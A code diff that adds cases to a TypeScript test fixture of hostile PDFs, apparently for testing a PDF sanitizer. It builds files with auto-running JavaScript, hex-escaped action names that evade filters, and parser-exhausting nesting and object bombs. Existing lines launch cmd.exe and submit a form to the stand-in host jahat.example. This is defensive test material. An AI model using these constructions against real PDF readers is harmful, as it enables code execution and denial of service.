@@ -21,6 +21,24 @@ export function hostilePdfs(): Record<string, Uint8Array> {
     "form that computes (XFA)": withCatalog("/AcroForm<</XFA[(template) 4 0 R]>>", [
       "<</Length 0>>\nstream\n\nendstream",
     ]),
+    "script as a stream": withCatalog("/OpenAction<</S/JavaScript/JS 4 0 R>>", [
+      "<</Length 8>>\nstream\nalert(1)\nendstream",
+    ]),
+    "script, every letter escaped": withCatalog(
+      "/OpenAction<</S/#4a#61#76#61#53#63#72#69#70#74/#4a#53(app.alert\\(1\\))>>",
+    ),
+    "script of a page": pdfOf({ pages: `<</Type/Pages/Kids[3 0 R]/Count 1/AA<</O${SCRIPT}>>>>` }),
+    "script after another step": withCatalog(`/OpenAction<</S/Named/N/NextPage/Next[${SCRIPT}]>>`),
+    "script that shows a film": withCatalog("/OpenAction<</S/Rendition/JS(app.alert\\(1\\))>>"),
+    "a portfolio": withCatalog("/Collection<</Type/Collection>>"),
+    "a body in three dimensions": pdfOf({ objects: ["<</Type/Annot/Subtype/3D/3DD 5 0 R>>"] }),
+    "names without end": pdfOf({ objects: [`<<${"/A".repeat(80_000)}>>`] }),
+    "dictionaries in dictionaries": pdfOf({ objects: ["<</A".repeat(40_000)] }),
+    "half a million objects": Buffer.concat([
+      raw("%PDF-1.7\n"),
+      raw(Array.from({ length: 500_000 }, (_, index) => `${index + 10} 0 obj\n0\nendobj`).join("\n")),
+      Buffer.from(pdfOf()).subarray(9),
+    ]),
     "starting a program": withCatalog("/OpenAction<</S/Launch/F(cmd.exe)>>"),
     "starting a program, escaped": withCatalog("/OpenAction<</S/L#61unch/F(cmd.exe)>>"),
     "sending a form": withCatalog("/OpenAction<</S/SubmitForm/F(http://jahat.example)>>"),
